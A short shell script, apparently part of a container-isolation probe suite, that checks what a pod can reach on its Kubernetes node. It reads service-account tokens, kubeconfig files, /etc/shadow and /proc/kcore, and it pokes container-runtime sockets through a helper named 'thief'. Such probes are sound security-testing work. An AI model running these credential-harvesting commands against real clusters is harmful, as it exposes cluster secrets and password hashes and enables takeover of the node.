# What belongs to the node: the kubelet's files, the sockets of container runtimes.
. "$(dirname "$0")/lib.sh"
for file in {/var/lib/kubelet,/mnt/pods}{,/pods}/*/volumes/kubernetes.io~secret/*/token; do try "$file" cat "$file"; done
for file in {/var,}/run/{containerd/containerd,docker,crio/crio,dockershim,podman/podman}.sock; do
  try "$file" sh -c "test -e $file || { echo there is none >&2; exit 1; }; printf '' | $thief talk $file 1"
done
for file in /etc/kubernetes /root/.kube/config /var/lib/kubelet/kubeconfig /etc/shadow /proc/kcore; do try "$file" head -c 1000 "$file"; done
tried
